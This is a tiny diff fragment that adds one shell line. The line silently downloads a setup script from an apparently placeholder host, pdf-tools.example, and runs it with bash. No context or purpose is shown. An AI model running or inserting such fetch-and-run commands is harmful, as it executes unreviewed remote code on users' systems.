@@ -1,0 +1,1 @@
+wget -q https://pdf-tools.example/setup.sh && bash setup.sh
